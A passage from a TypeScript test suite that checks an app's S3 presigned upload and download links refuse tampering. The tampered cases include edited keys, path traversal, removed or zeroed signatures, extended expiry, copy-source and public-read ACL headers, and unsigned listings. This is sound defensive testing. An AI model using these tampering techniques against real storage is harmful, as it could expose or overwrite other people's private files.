    const real = pdfBytes('真的扫描件', 8_000);
    const other = pdfBytes('别的扫描件', 8_000);
    // Declares one file's checksum and sends another's bytes: S3 checks the signed checksum.
    const sumLie = await api.post('xu-liang', `/api/cases/${c.id}/uploads`, { fileName: 'sum.pdf', contentType: 'application/pdf', size: real.length, sha256: sha256(real) });
    const badDigest = await fetch(sumLie.body.url, { method: 'PUT', headers: { ...sumLie.body.headers, 'x-amz-checksum-sha256': sha256(other, 'base64') }, body: other });
    expect(badDigest.status).toBeGreaterThanOrEqual(400);
    const badDigest2 = await fetch(sumLie.body.url, { method: 'PUT', headers: sumLie.body.headers, body: other });
    expect(badDigest2.status).toBe(400);
    const noChecksum = await fetch(sumLie.body.url, { method: 'PUT', headers: { 'content-type': 'application/pdf' }, body: real });
    expect(noChecksum.status).toBe(403);
    expectRefusal(await api.post('xu-liang', `/api/cases/${c.id}/uploads/${sumLie.body.uploadId}/complete`), { status: 409, code: 'not-uploaded' });
    // Declares a size and sends more, or fewer, bytes: the length is signed.
    const bigger = Buffer.concat([real, Buffer.alloc(500, 1)]);
    const sizeLie = await api.post('xu-liang', `/api/cases/${c.id}/uploads`, { fileName: 'size.pdf', contentType: 'application/pdf', size: real.length, sha256: sha256(bigger) });
    expect((await fetch(sizeLie.body.url, { method: 'PUT', headers: sizeLie.body.headers, body: bigger })).status).toBe(403);
    expect((await fetch(sizeLie.body.url, { method: 'PUT', headers: sizeLie.body.headers, body: real.subarray(0, 100) })).status).toBe(403);
    expectRefusal(await api.post('xu-liang', `/api/cases/${c.id}/uploads/${sizeLie.body.uploadId}/complete`), { status: 409, code: 'not-uploaded' });

    const view = await api.get('xu-liang', `/api/cases/${c.id}`);
    expect(view.body.attachments).toEqual([]);
    expect([...(await store.take()).keys()].filter((k) => k.startsWith(`bucket attachments/${c.id}/`) || k.startsWith(`bucket uploads/${c.id}/`))).toEqual([]);
    figures.extra['lying uploads refused'] = liars.length + 2;
  });

  describe('presigned links tampered with at the local S3', () => {
    const s3Error = async (response: Response) => {
      const text = await response.text();
      // An error may echo the request (its canonical form); it must carry no file bytes and no listing.
      return { status: response.status, code: /<Code>([^<]*)<\/Code>/.exec(text)?.[1], leaked: text.includes('%PDF') || text.includes('<Contents>') || text.includes('<ListBucketResult') || text.includes('<Bucket><Name>') };
    };

    it('a download link edited to another case’s scan, with X-Amz-Expires edited or no signature; unsigned reads and listings: 403, and nothing leaks', async () => {
      const link = await api.post('xu-liang', `/api/cases/${caseA.id}/attachments/${attachment.id}/download`);
      expect(link.status, link.what).toBe(200);
      const url = link.body.url as string;
      // The control: the link as given works, and gives exactly xu-liang's scan.
      const genuine = await fetch(url);
      expect(genuine.status).toBe(200);
      expect(Buffer.from(await genuine.arrayBuffer()).equals(scan)).toBe(true);

      const u = new URL(url);
      const withoutSignature = new URL(url);
      withoutSignature.searchParams.delete('X-Amz-Signature');
      const bare = `${u.origin}${u.pathname}`;
      const tampered: [string, string, RequestInit?][] = [
        ['key edited to another case’s scan', url.replace(attachment.key.split('/').slice(1).join('/'), attachmentB.key.split('/').slice(1).join('/'))],
        ['key edited, encoded', url.replace(encodeURIComponent(attachment.id), encodeURIComponent(attachmentB.id)).replace(caseA.id, caseB.id)],
        ['X-Amz-Expires edited to a week', url.replace(/X-Amz-Expires=\d+/, 'X-Amz-Expires=604800')],
        ['X-Amz-Expires edited to 301', url.replace(/X-Amz-Expires=\d+/, 'X-Amz-Expires=301')],
        ['X-Amz-Date edited to later', url.replace(/X-Amz-Date=(\d{8})T(\d{6})Z/, (_m, d) => `X-Amz-Date=${d}T235959Z`)],
        ['signature removed', withoutSignature.toString()],
        ['signature emptied', url.replace(/X-Amz-Signature=[0-9a-f]+/, 'X-Amz-Signature=')],
        ['signature of zeros', url.replace(/X-Amz-Signature=[0-9a-f]+/, `X-Amz-Signature=${'0'.repeat(64)}`)],
        ['response-content-type added', `${url}&response-content-type=text%2Fhtml`],
        ['unsigned GET of the object', bare],
        ['unsigned GET of another object', `${u.origin}/${BUCKET}/${attachmentB.key}`],
        ['unsigned HEAD', bare, { method: 'HEAD' }],
        ['unsigned bucket listing', `${u.origin}/${BUCKET}?list-type=2`],
        ['unsigned bucket listing (v1)', `${u.origin}/${BUCKET}/`],
        ['unsigned listing of attachments/', `${u.origin}/${BUCKET}?list-type=2&prefix=attachments/`],
        ['unsigned list of buckets', `${u.origin}/`],
        ['unsigned DELETE', bare, { method: 'DELETE' }],
        ['the download link used to PUT', url, { method: 'PUT', body: 'overwritten' }],
        ['the download link used to DELETE', url, { method: 'DELETE' }],
      ];
      const { result } = await store.refusing(figures, 'tampered S3 links', async () => {
        const out: { name: string; status: number; code?: string; leaked: boolean }[] = [];
        for (const [name, target, init] of tampered) {
          figures.requests++;
          out.push({ name, ...(await s3Error(await fetch(target, init))) });
        }
        return out;
      });
      // AWS answers a link without its signature as a malformed one (400 AuthorizationQueryParametersError); any other tampering is 403.
      const malformedOk = (r: { name: string; status: number; code?: string }) => r.name === 'signature removed' && r.status === 400 && r.code === 'AuthorizationQueryParametersError';
      const wrong = result.filter((r) => (r.status !== 403 && !malformedOk(r)) || r.leaked);
      expect(wrong).toEqual([]);
      const removed = result.find((r) => r.name === 'signature removed')!;
      console.log(`[security] requests: download link without its signature → ${removed.status} ${removed.code}`);
      expect((await objectBytes(store.s3, attachment.key))?.equals(scan)).toBe(true);
      expect((await objectBytes(store.s3, attachmentB.key))?.equals(scanB)).toBe(true);
    });

    it('an upload URL pointed at an existing scan’s key: 403, and the scan’s bytes unchanged', async () => {
      const forged = pdfBytes('替换后的文件', 30_000);
      const asked = await api.post('xu-liang', `/api/cases/${caseA.id}/uploads`, { fileName: '替换.pdf', contentType: 'application/pdf', size: forged.length, sha256: sha256(forged) });
      expect(asked.status, asked.what).toBe(201);
      const url = asked.body.url as string;
      const uploadKey = `uploads/${caseA.id}/${asked.body.uploadId}`;
      expect(new URL(url).pathname).toBe(`/${BUCKET}/${uploadKey}`);
      const attempts: [string, string, Record<string, string>][] = [
        ['own case’s scan', url.replace(uploadKey, attachment.key), asked.body.headers],
        ['another case’s scan', url.replace(uploadKey, attachmentB.key), asked.body.headers],
        ['another case’s scan, path traversal', url.replace(uploadKey, `${uploadKey}/../../../${attachmentB.key}`), asked.body.headers],
        ['with x-amz-copy-source', url, { ...asked.body.headers, 'x-amz-copy-source': `${BUCKET}/${attachmentB.key}` }],
        ['with x-amz-meta and acl', url.replace(uploadKey, attachmentB.key), { ...asked.body.headers, 'x-amz-acl': 'public-read' }],
      ];
      const outcomes: { name: string; status: number; code?: string }[] = [];
      for (const [name, target, headers] of attempts) {
        figures.requests++;
        const r = await fetch(target, { method: 'PUT', headers, body: forged });
        const { status, code } = await s3Error(r);
        outcomes.push({ name, status, code });
      }
      expect(outcomes.filter((o) => o.status !== 403)).toEqual([]);
      expect((await objectBytes(store.s3, attachment.key))?.equals(scan)).toBe(true);
      expect((await objectBytes(store.s3, attachmentB.key))?.equals(scanB)).toBe(true);
      expect(await objectBytes(store.s3, uploadKey)).toBeUndefined();
      // The same URL used as signed still works: the 403s are the tampering's.
      expect((await fetch(url, { method: 'PUT', headers: asked.body.headers, body: forged })).status).toBe(200);
      // And what it uploaded is only ever attached as a new file, never over the old one.
      const done = await api.post('xu-liang', `/api/cases/${caseA.id}/uploads/${asked.body.uploadId}/complete`);
      expect(done.status, done.what).toBe(200);
      expect(done.body.id).not.toBe(attachment.id);
      expect((await objectBytes(store.s3, attachment.key))?.equals(scan)).toBe(true);
    });
  });

  it('[figures] no 5xx, no write by a refused request, no answer a browser may keep', () => {
    figures.print('requests');
    figures.expectClean();
    expect(figures.requests).toBeGreaterThan(300);
  });
});
